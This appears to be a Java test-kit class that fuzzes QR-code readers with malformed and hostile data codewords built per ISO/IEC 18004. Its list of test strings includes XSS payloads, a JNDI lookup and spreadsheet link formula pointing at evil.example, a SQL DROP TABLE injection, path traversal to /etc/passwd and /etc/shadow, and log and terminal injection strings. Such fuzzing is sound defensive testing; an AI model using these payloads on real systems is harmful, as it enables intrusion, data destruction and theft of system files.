package org.seatside.testkit;

import java.io.ByteArrayOutputStream;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.Locale;
import java.util.Random;

/// What somebody could print to do harm: the data codewords of QR symbols (ISO/IEC 18004:2015, 7.4), well
/// formed and not, with texts chosen to break what reads, logs or shows them. The same seed draws the same
/// symbols.
public final class HostileSymbols {
    private static final String ALPHANUMERIC = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ $%*+-./:";

    /// Data codewords of version 40 at level L.
    private static final int MOST_CODEWORDS = 2_956;

    private static final int MOST_BYTES = 2_953;
    private static final int MOST_DIGITS = 7_089;
    private static final int[] ECIS = {0, 1, 2, 3, 4, 7, 13, 20, 21, 25, 26, 27, 28, 29, 30, 170, 899, 900, 999_999};

    private static final String[] TEXTS = {
        "javascript:alert(1)",
        "JaVaScRiPt\n:alert(1)",
        "data:text/html,<script>x</script>",
        "<img src=x onerror=x>",
        "file:///etc/passwd",
        "${jndi:ldap://evil.example/x}",
        "%s%s%n{}{}",
        "'; DROP TABLE attendance; --",
        "=HYPERLINK(\"http://evil.example\")",
        "20231234\n2026-11-20 INFO root logged in",
        "\u001b[2J\u001b[31mred",
        "20231234\r",
        "\u202e43213202",
        "2023\u200b1234",
        "\u0000\u0000\u0000",
        "20231234\u0000",
        "２０２３１２３４",
        "DP1:",
        "dp1:ABC",
        "ＤＰ１:6BF",
        "DP1:\u0000",
        " DP1:6BFOXN",
        "R1:",
        "R1: :::::::::",
        "0123456789abcdef0123456789abcdef",
        "0123456789ABCDEF0123456789ABCDE\u0661",
        "../../../../etc/shadow",
        "\ufeff20231234",
        "\ud83d\ude00\u200d\u202e",
    };

    /// What a symbol's segments are made of.
    public enum Kind {
        RANDOM_BITS,
        ECI_SWITCHES,
        STRUCTURED_APPEND,
        FNC1,
        KANJI_CUT_SHORT,
        BROKEN_UTF8,
        HOSTILE_TEXT,
        LONG_BYTES,
        LONG_DIGITS,
        LOOKALIKE,
        EMPTY_SEGMENTS,
        EVERYTHING
    }

    /// Data codewords of one symbol.
    public static final class Codewords {
        private final Kind kind;
        private final int version;
        private final byte[] data;

        private Codewords(Kind kind, int version, byte[] data) {
            this.kind = kind;
            this.version = version;
            this.data = data;
        }

        public Kind kind() {
            return kind;
        }

        /// 1 to 40: it decides how long the counts of characters are.
        public int version() {
            return version;
        }

        /// The caller's own.
        public byte[] data() {
            return data;
        }

        /// Without the data.
        @Override
        public String toString() {
            return kind + ", version " + version + ", " + data.length + " codewords";
        }
    }

    private final Random random;
    private final StringBuilder bits = new StringBuilder();
    private int version;

    public HostileSymbols(long seed) {
        random = new Random(seed);
    }

    /// The next symbol; kinds come in turn by chance.
    public Codewords next() {
        return next(Kind.values()[random.nextInt(Kind.values().length)]);
    }

    /// The next symbol of a kind.
    public Codewords next(Kind kind) {
        bits.setLength(0);
        version = 1 + random.nextInt(40);
        switch (kind) {
            case RANDOM_BITS -> anyBits(8 * (1 + random.nextInt(200)));
            case ECI_SWITCHES -> repeat(1 + random.nextInt(20), this::eciAndBytes);
            case STRUCTURED_APPEND -> {
                put(3, 4).put(random.nextInt(1 << 16), 16);
                repeat(1 + random.nextInt(3), this::anySegment);
            }
            case FNC1 -> fnc1();
            case KANJI_CUT_SHORT -> kanji();
            case BROKEN_UTF8 -> bytes(brokenUtf8());
            case HOSTILE_TEXT -> bytes(hostile().getBytes(StandardCharsets.UTF_8));
            case LONG_BYTES -> {
                version = 40;
                bytes(drawn(random.nextInt(MOST_BYTES + 1)));
            }
            case LONG_DIGITS -> {
                version = 40;
                digits(random.nextBoolean() ? MOST_DIGITS : random.nextInt(MOST_DIGITS + 1));
            }
            case LOOKALIKE -> lookalike();
            case EMPTY_SEGMENTS -> repeat(1 + random.nextInt(40), this::emptySegment);
            case EVERYTHING -> repeat(1 + random.nextInt(12), this::anySegment);
        }
        if (random.nextInt(4) > 0) {
            put(0, 4);
        }
        return new Codewords(kind, version, codewords());
    }

    /// A text as no symbol, keyboard or scanner should ever give it, with what Java allows beyond Unicode.
    public String text() {
        return switch (random.nextInt(6)) {
            case 0 -> hostile() + (char) (0xd800 + random.nextInt(0x800));
            case 1 -> anyCharacters(random.nextInt(MOST_BYTES));
            case 2 -> ALPHANUMERIC.substring(random.nextInt(40)).repeat(random.nextInt(200));
            case 3 -> "9".repeat(random.nextInt(MOST_DIGITS + 1));
            case 4 -> "DP1:" + anyCharacters(random.nextInt(600));
            default -> hostile().repeat(random.nextInt(30));
        };
    }

    private String anyCharacters(int length) {
        StringBuilder text = new StringBuilder(length);
        for (int i = 0; i < length; i++) {
            text.append((char) (random.nextInt(3) == 0 ? random.nextInt(0x10000) : random.nextInt(0xa0)));
        }
        return text.toString();
    }

    private String hostile() {
        return TEXTS[random.nextInt(TEXTS.length)];
    }

    private void anySegment() {
        switch (random.nextInt(8)) {
            case 0 -> eciAndBytes();
            case 1 -> digits(random.nextInt(30));
            case 2 -> alphanumeric(random.nextInt(30));
            case 3 -> bytes(hostile().getBytes(StandardCharsets.UTF_8));
            case 4 -> bytes(brokenUtf8());
            case 5 -> emptySegment();
            case 6 -> put(random.nextBoolean() ? 5 : 9, 4);
            default -> put(3, 4).put(random.nextInt(1 << 16), 16);
        }
    }

    /// Designators of one to three bytes, also where a shorter one would do (7.4.2.2).
    private void eciAndBytes() {
        int eci = random.nextInt(4) == 0 ? random.nextInt(1 << 21) : ECIS[random.nextInt(ECIS.length)];
        put(7, 4);
        int least = eci < 128 ? 1 : eci < 16_384 ? 2 : 3;
        switch (least + random.nextInt(4 - least)) {
            case 1 -> put(eci, 8);
            case 2 -> put(0b10, 2).put(eci, 14);
            default -> put(random.nextInt(8) == 0 ? 0b111 : 0b110, 3).put(eci, 21);
        }
        Charset charset = random.nextBoolean() ? StandardCharsets.UTF_8 : StandardCharsets.UTF_16BE;
        bytes(random.nextInt(3) == 0 ? drawn(random.nextInt(20)) : hostile().getBytes(charset));
    }

    private void fnc1() {
        if (random.nextBoolean()) {
            put(5, 4);
        } else {
            put(9, 4).put(random.nextInt(256), 8);
        }
        alphanumeric(1 + random.nextInt(60));
        bytes("%%%".getBytes(StandardCharsets.UTF_8));
    }

    private void kanji() {
        boolean hanzi = random.nextBoolean();
        int count = random.nextInt(30);
        put(hanzi ? 13 : 8, 4).put(hanzi ? 1 : 0, hanzi ? 4 : 0).put(count, countBits(8, 10, 12));
        anyBits(random.nextBoolean() ? 13 * count : random.nextInt(13 * count + 1));
    }

    private void lookalike() {
        String prefix = random.nextBoolean() ? "DP1:" : "R1:";
        StringBuilder text = new StringBuilder(prefix);
        int length = random.nextInt(3) == 0 ? 117 : random.nextInt(500);
        for (int i = 0; i < length; i++) {
            text.append(ALPHANUMERIC.charAt(random.nextInt(ALPHANUMERIC.length())));
        }
        String made = random.nextInt(4) == 0 ? text.toString().toLowerCase(Locale.ROOT) : text.toString();
        bytes(made.getBytes(StandardCharsets.UTF_8));
    }

    private byte[] brokenUtf8() {
        byte[] bytes = new byte[random.nextInt(40)];
        byte[] parts = {(byte) 0xc0, (byte) 0x80, (byte) 0xed, (byte) 0xa0, (byte) 0xf4, (byte) 0xbf, (byte) 0xff, 0x41
        };
        for (int i = 0; i < bytes.length; i++) {
            bytes[i] = parts[random.nextInt(parts.length)];
        }
        return bytes;
    }

    private byte[] drawn(int length) {
        byte[] bytes = new byte[length];
        random.nextBytes(bytes);
        return bytes;
    }

    private void emptySegment() {
        switch (random.nextInt(4)) {
            case 0 -> put(1, 4).put(0, countBits(10, 12, 14));
            case 1 -> put(2, 4).put(0, countBits(9, 11, 13));
            case 2 -> put(8, 4).put(0, countBits(8, 10, 12));
            default -> bytes(new byte[0]);
        }
    }

    private void bytes(byte[] bytes) {
        int length = random.nextInt(50) == 0 ? bytes.length + 1 + random.nextInt(9) : bytes.length;
        put(4, 4).put(length, countBits(8, 16, 16));
        for (byte b : bytes) {
            put(b & 0xff, 8);
        }
    }

    private void digits(int count) {
        put(1, 4).put(count, countBits(10, 12, 14));
        int left = count;
        for (; left >= 3; left -= 3) {
            put(random.nextInt(20_000) == 0 ? 1023 : random.nextInt(1000), 10);
        }
        if (left > 0) {
            put(left == 2 ? random.nextInt(100) : random.nextInt(10), left == 2 ? 7 : 4);
        }
    }

    private void alphanumeric(int count) {
        put(2, 4).put(count, countBits(9, 11, 13));
        for (int left = count; left > 0; left -= 2) {
            int top = random.nextInt(300) == 0 ? 2047 : random.nextInt(45 * 45);
            put(left > 1 ? top : random.nextInt(45), left > 1 ? 11 : 6);
        }
    }

    /// Table 3.
    private int countBits(int small, int middle, int large) {
        return version < 10 ? small : version < 27 ? middle : large;
    }

    private void repeat(int times, Runnable segment) {
        for (int i = 0; i < times; i++) {
            segment.run();
        }
    }

    private void anyBits(int count) {
        for (int i = 0; i < count; i++) {
            put(random.nextInt(2), 1);
        }
    }

    private HostileSymbols put(int value, int count) {
        for (int i = count - 1; i >= 0; i--) {
            bits.append((char) ('0' + (value >> i & 1)));
        }
        return this;
    }

    private byte[] codewords() {
        bits.repeat('0', (8 - bits.length() % 8) % 8);
        ByteArrayOutputStream data = new ByteArrayOutputStream();
        int most = Math.min(bits.length() / 8, MOST_CODEWORDS);
        for (int i = 0; i < most; i++) {
            int word = 0;
            for (int j = 0; j < 8; j++) {
                word = word << 1 | (bits.charAt(8 * i + j) - '0');
            }
            data.write(word);
        }
        return data.toByteArray();
    }
}
